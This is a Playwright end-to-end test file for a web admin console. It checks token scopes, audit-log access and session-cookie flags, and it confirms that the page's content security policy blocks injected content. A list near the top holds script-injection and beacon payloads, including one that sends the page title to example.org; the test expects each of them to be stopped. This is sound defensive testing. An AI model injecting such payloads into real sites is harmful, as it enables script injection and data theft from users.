"""Tokens with scopes, the audit log, and what the page's policy keeps out; in a real browser."""

import re

import pytest
from playwright.sync_api import expect

from e2e.fleet import Server
from ui.browser import log_in, open_page

pytestmark = pytest.mark.chromium

ATTEMPT = """() => new Promise((done) => {
  document.addEventListener("securitypolicyviolation",
    (event) => done(event.effectiveDirective), { once: true });
  setTimeout(() => done("nothing was stopped"), 5000);
  const add = (name, fields) =>
    document.body.append(Object.assign(document.createElement(name), fields));
  %s;
})"""
ATTEMPTS = [
    ("add('script', {textContent: 'window.stolen = true'})", "script-src-elem"),
    ("add('script', {src: 'https://example.org/x.js'})", "script-src-elem"),
    ("add('img', {src: 'https://example.org/?' + document.title})", "img-src"),
    ("fetch('https://example.org/').catch(() => 0)", "connect-src"),
    ("add('iframe', {src: 'https://example.org'})", "frame-src"),
    ("add('object', {data: 'https://example.org'})", "object-src"),
    ("add('base', {href: 'https://example.org'})", "base-uri"),
]


def test_a_token_is_for_what_was_chosen(visit):
    watched = visit("operator")
    page = watched.goto("/settings")
    panel = page.locator("#tokens")
    panel.get_by_label("Name", exact=True).fill("nightly push")
    panel.get_by_label("Role").click()
    page.get_by_role("option", name="operator").click()
    panel.get_by_label("Only for").click()
    expect(page.get_by_role("option", name="admin")).to_have_count(0)
    page.get_by_role("option", name="models:write").click()
    page.keyboard.press("Escape")
    command = 'edgectl tokens create "nightly push" --role operator --scope models:write'
    expect(panel).to_contain_text(re.compile(re.escape(command).replace('"', "[\"']")))
    panel.get_by_role("button", name="Create token").click()
    expect(panel).to_contain_text("It is shown this once")
    row = page.get_by_role("region", name="API tokens").locator("tr", has_text="nightly push")
    expect(row).to_contain_text("read, models:write")
    assert watched.troubles == []


def test_the_audit_log_is_for_admins(visit, api):
    api("POST", "/tokens", {"name": "made for the audit log", "role": "viewer"})
    watched = visit("admin")
    page = watched.goto("/audit")
    table = page.get_by_role("region", name="Audit log")
    row = table.locator("tbody tr").first
    expect(row).to_contain_text("create_token")
    expect(row).to_contain_text("admin")
    expect(page.locator(".command").first).to_contain_text("edgectl audit verify")
    assert watched.troubles == []
    other = visit("operator")
    other.goto("/audit")
    expect(other.page.get_by_text("The audit log is for admins")).to_be_visible()
    expect(other.page.get_by_role("region", name="Audit log")).to_have_count(0)


def test_a_script_that_was_slipped_in_does_not_run(visit):
    watched = visit("admin")
    page = watched.goto("/")
    assert watched.troubles == []  # the page's own scripts, styles, fonts and workers are let in
    for attempt, directive in ATTEMPTS:
        assert page.evaluate(ATTEMPT % attempt) == directive, attempt
    assert page.evaluate("window.stolen") is None


def test_over_tls_the_session_is_a_cookie_of_this_host_alone(browser, tmp_path):
    server = Server(tmp_path / "data", settings={"tls": "own"})
    server.start()
    try:
        origin = server.url.rstrip("/")
        watched = open_page(browser, origin, ignore_https_errors=True)
        page = watched.page
        page.goto(origin)
        log_in(page, "admin", (server.data / "admin-password").read_text().strip())
        expect(page.get_by_role("heading", name="Fleet")).to_be_visible()
        (cookie,) = page.context.cookies()
        assert cookie["name"] == "__Host-edgectl_session"
        kept = {name: cookie[name] for name in ("secure", "httpOnly", "sameSite", "path")}
        assert kept == {"secure": True, "httpOnly": True, "sameSite": "Strict", "path": "/"}
        assert page.evaluate("document.cookie") == ""
        page.reload()
        expect(page.get_by_role("heading", name="Fleet")).to_be_visible()
        assert [one for one in watched.troubles if "401" not in one] == []
        page.context.close()
    finally:
        server.stop()
